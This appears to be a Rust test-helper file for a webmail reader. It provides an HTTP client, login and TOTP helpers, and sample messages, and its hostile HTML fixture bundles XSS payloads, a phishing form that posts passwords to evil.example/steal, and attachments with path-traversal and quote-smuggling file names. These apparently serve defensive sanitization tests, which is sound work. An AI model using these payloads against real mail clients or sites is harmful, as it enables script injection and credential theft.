//! Web reader test helpers: an HTTP client with a cookie jar that does not
//! follow redirects (so tests see each 303), accounts, and sample mail.
#![allow(dead_code)]

use std::collections::BTreeMap;

use breakwater::accounts::{self, totp};

pub const PASSWORD: &str = "correct horse battery";

pub struct WebClient {
    pub base: String,
    agent: ureq::Agent,
    pub cookies: BTreeMap<String, String>,
    /// Extra headers sent with every request (e.g. Accept-Language).
    pub headers: Vec<(String, String)>,
}

pub struct Page {
    pub status: u16,
    pub headers: Vec<(String, String)>,
    pub body: Vec<u8>,
}

impl Page {
    pub fn text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }
    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }
    pub fn all(&self, name: &str) -> Vec<&str> {
        self.headers
            .iter()
            .filter(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
            .collect()
    }
    pub fn location(&self) -> &str {
        self.header("location").unwrap_or("")
    }
    /// The CSRF token in the page's first form.
    pub fn csrf(&self) -> String {
        let text = self.text();
        let start = text
            .find("name=\"csrf\" value=\"")
            .unwrap_or_else(|| panic!("no csrf field in {text}"))
            + 19;
        text[start..start + text[start..].find('"').expect("end quote")].to_string()
    }
}

impl WebClient {
    pub fn new(addr: std::net::SocketAddr) -> WebClient {
        WebClient {
            base: format!("http://{addr}"),
            agent: ureq::Agent::config_builder()
                .http_status_as_error(false)
                .max_redirects(0)
                .max_idle_connections(0)
                .build()
                .into(),
            cookies: BTreeMap::new(),
            headers: Vec::new(),
        }
    }

    fn cookie_header(&self) -> String {
        self.cookies
            .iter()
            .map(|(k, v)| format!("{k}={v}"))
            .collect::<Vec<_>>()
            .join("; ")
    }

    fn finish(&mut self, response: Result<ureq::http::Response<ureq::Body>, ureq::Error>) -> Page {
        let mut response = response.expect("HTTP request");
        let status = response.status().as_u16();
        let headers: Vec<(String, String)> = response
            .headers()
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_str().unwrap_or("").to_string()))
            .collect();
        for (k, v) in &headers {
            if k.eq_ignore_ascii_case("set-cookie") {
                let pair = v.split(';').next().unwrap_or("");
                if let Some((name, value)) = pair.split_once('=') {
                    if value.is_empty() || v.contains("Max-Age=0") {
                        self.cookies.remove(name);
                    } else {
                        self.cookies.insert(name.to_string(), value.to_string());
                    }
                }
            }
        }
        let body = response
            .body_mut()
            .with_config()
            .limit(64 * 1024 * 1024)
            .read_to_vec()
            .expect("body");
        Page {
            status,
            headers,
            body,
        }
    }

    pub fn get(&mut self, path: &str) -> Page {
        let mut request = self.agent.get(format!("{}{path}", self.base));
        if !self.cookies.is_empty() {
            request = request.header("Cookie", self.cookie_header());
        }
        for (k, v) in &self.headers {
            request = request.header(k, v);
        }
        let response = request.call();
        self.finish(response)
    }

    pub fn post(&mut self, path: &str, form: &[(&str, &str)]) -> Page {
        self.post_with(path, form, &[])
    }

    pub fn post_with(&mut self, path: &str, form: &[(&str, &str)], extra: &[(&str, &str)]) -> Page {
        let mut request = self.agent.post(format!("{}{path}", self.base));
        if !self.cookies.is_empty() {
            request = request.header("Cookie", self.cookie_header());
        }
        for (k, v) in &self.headers {
            request = request.header(k, v);
        }
        for (k, v) in extra {
            request = request.header(*k, *v);
        }
        let response = request.send_form(form.iter().copied());
        self.finish(response)
    }

    /// A `multipart/form-data` post, as a browser sends a form with file
    /// inputs: `files` are (field, file name, content type, bytes).
    pub fn post_multipart(
        &mut self,
        path: &str,
        form: &[(&str, &str)],
        files: &[(&str, &str, &str, &[u8])],
    ) -> Page {
        let boundary = "----breakwater-test-boundary-7MA4YWxkTrZu0gW";
        let mut body = Vec::new();
        for (name, value) in form {
            body.extend_from_slice(
                format!("--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
                    .as_bytes(),
            );
        }
        for (name, file_name, content_type, data) in files {
            body.extend_from_slice(
                format!("--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"; filename=\"{file_name}\"\r\nContent-Type: {content_type}\r\n\r\n")
                    .as_bytes(),
            );
            body.extend_from_slice(data);
            body.extend_from_slice(b"\r\n");
        }
        body.extend_from_slice(format!("--{boundary}--\r\n").as_bytes());
        let mut request = self.agent.post(format!("{}{path}", self.base));
        if !self.cookies.is_empty() {
            request = request.header("Cookie", self.cookie_header());
        }
        for (k, v) in &self.headers {
            request = request.header(k, v);
        }
        let response = request
            .header(
                "Content-Type",
                format!("multipart/form-data; boundary={boundary}"),
            )
            .send(&body[..]);
        self.finish(response)
    }

    /// Open the compose page and send a plain message from it; the answer
    /// to the POST.
    pub fn compose_and_send(&mut self, from: &str, to: &str, subject: &str, text: &str) -> Page {
        let form = self.get("/mail/compose");
        assert_eq!(form.status, 200, "{}", form.text());
        self.post(
            "/mail/send",
            &[
                ("csrf", &form.csrf()),
                ("from", from),
                ("to", to),
                ("subject", subject),
                ("text", text),
            ],
        )
    }

    /// Password sign-in; returns the answer to the POST.
    pub fn login(&mut self, address: &str, password: &str) -> Page {
        let form = self.get("/login");
        assert_eq!(form.status, 200);
        let csrf = form.csrf();
        self.post(
            "/login",
            &[
                ("address", address),
                ("password", password),
                ("csrf", &csrf),
                ("next", "/mail"),
            ],
        )
    }

    /// Full sign-in including the TOTP step when `secret` is given.
    pub fn login_fully(&mut self, address: &str, secret: Option<&str>) {
        let answer = self.login(address, PASSWORD);
        assert_eq!(answer.status, 303, "{}", answer.text());
        if let Some(secret) = secret {
            assert!(
                answer.location().starts_with("/login/totp"),
                "{}",
                answer.location()
            );
            let form = self.get(answer.location());
            let code = totp_code(secret, address);
            let done = self.post(
                "/login/totp",
                &[("code", &code), ("csrf", &form.csrf()), ("next", "/mail")],
            );
            assert_eq!(done.status, 303, "{}", done.text());
        }
        assert_eq!(self.get("/mail").status, 200);
    }
}

pub fn totp_code(secret: &str, address: &str) -> String {
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs();
    totp::totp_for(secret, address).expect("totp").generate(now)
}

/// The queue ID on the "sent" page.
pub fn sent_queue_id(page: &Page) -> breakwater::envelope::QueueId {
    page.text()
        .split("queue ID ")
        .nth(1)
        .and_then(|rest| rest.split(')').next())
        .and_then(|id| id.parse().ok())
        .unwrap_or_else(|| panic!("no queue ID on the page: {}", page.text()))
}

/// Create an account; with `totp`, enrol it and return the secret.
pub fn add_user(
    users_file: &std::path::Path,
    address: &str,
    aliases: &[&str],
    admin: bool,
    totp: bool,
) -> Option<String> {
    let aliases: Vec<String> = aliases.iter().map(|a| a.to_string()).collect();
    accounts::add(users_file, address, "", &aliases, admin, PASSWORD).expect("add user");
    totp.then(|| {
        let secret = totp::new_totp_secret();
        accounts::update(users_file, address, |a| {
            a.totp_secret = Some(secret.clone());
            Ok(())
        })
        .expect("enrol totp");
        secret
    })
}

/// A Japanese message in ISO-2022-JP (subject RFC 2047, body 7-bit JIS).
pub fn iso2022jp_message(to: &str) -> Vec<u8> {
    // 件名: 障害のお知らせ / 本文: 本日の会議は中止です。
    let mut m = format!(
        "From: =?ISO-2022-JP?B?GyRCOzNFRBsoQg==?= <yamada@example.jp>\r\nTo: {to}\r\nSubject: =?ISO-2022-JP?B?GyRCPmMzMiROJCpDTiRpJDsbKEI=?=\r\nDate: Sun, 22 Nov 2026 09:00:00 +0900\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=ISO-2022-JP\r\nContent-Transfer-Encoding: 7bit\r\n\r\n"
    )
    .into_bytes();
    m.extend_from_slice(b"\x1b$BK\\F|$N2q5D$OCf;_$G$9!#\x1b(B\r\n");
    m
}

/// An HTML message full of XSS payloads that would set a marker if any ran,
/// a tracking pixel, an inline cid image, and attachments with hostile names.
pub fn hostile_html_message(to: &str, pixel_url: &str) -> Vec<u8> {
    let html = hostile_html(pixel_url);
    let png_1x1 = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
    hostile_mime(to, &html, png_1x1)
}

/// The HTML payloads alone (the browser test's positive control runs them
/// unprotected to prove they would log their marker).
pub fn hostile_html(pixel_url: &str) -> String {
    format!(
        r#"<html><head><meta http-equiv="refresh" content="0;url=javascript:console.log('XSS-RAN:meta')"><base href="https://evil.example/"><style>body{{background:url({pixel_url}?css)}}</style></head><body>
<h1 id="greeting">Quarterly report</h1>
<script>console.log('XSS-RAN:script');document.title='XSS-script'</script>
<img src="x" onerror="console.log('XSS-RAN:onerror')">
<img id="pixel" src="{pixel_url}" width="1" height="1">
<img id="inline" src="cid:logo@breakwater.test" alt="logo">
<a id="jslink" href="javascript:console.log('XSS-RAN:link')">click</a>
<a id="link" href="https://example.org/report">report</a>
<body onload="console.log('XSS-RAN:onload')"><details open ontoggle="console.log('XSS-RAN:ontoggle')"><summary>s</summary></details>
<a id="datalink" href="data:text/html,<script>console.log('XSS-RAN:data')</script>">data link</a>
<svg><script>console.log('XSS-RAN:svg')</script><animate onbegin="console.log('XSS-RAN:animate')" attributeName="x" dur="1s"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror="console.log('XSS-RAN:math')"></style></mglyph></table></mtext></math>
<iframe src="javascript:console.log('XSS-RAN:iframe')"></iframe>
<form action="https://evil.example/steal"><input name="password" type="password"><button>Log in to Microsoft 365</button></form>
<div style="background-image:url({pixel_url}?style);position:fixed;top:0">styled</div>
<object data="javascript:console.log('XSS-RAN:object')"></object><embed src="javascript:console.log('XSS-RAN:embed')">
</body></html>"#
    )
    .replace('\n', "\r\n")
}

fn hostile_mime(to: &str, html: &str, png_1x1: &str) -> Vec<u8> {
    format!(
        "From: IT Helpdesk <helpdesk@example.org>\r\nTo: {to}\r\nSubject: Report with payloads\r\nDate: Sun, 22 Nov 2026 10:00:00 +0900\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"outer\"\r\n\r\n\
--outer\r\nContent-Type: multipart/related; boundary=\"rel\"\r\n\r\n\
--rel\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n\
--rel\r\nContent-Type: image/png\r\nContent-ID: <logo@breakwater.test>\r\nContent-Disposition: inline\r\nContent-Transfer-Encoding: base64\r\n\r\n{png_1x1}\r\n\
--rel--\r\n\
--outer\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename*=UTF-8''..%2F..%2Fetc%2F%E8%AB%8B%E6%B1%82%E6%9B%B8.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQK\r\n\
--outer\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename=\"evil\\\"; x=.html\"\r\n\r\n<script>alert(1)</script>\r\n\
--outer--\r\n"
    )
    .into_bytes()
}

pub fn plain_message(to: &str, subject: &str, body: &str) -> Vec<u8> {
    format!(
        "From: Sender <sender@example.org>\r\nTo: {to}\r\nSubject: {subject}\r\nDate: Sun, 22 Nov 2026 08:00:00 +0000\r\n\r\n{body}\r\n"
    )
    .into_bytes()
}
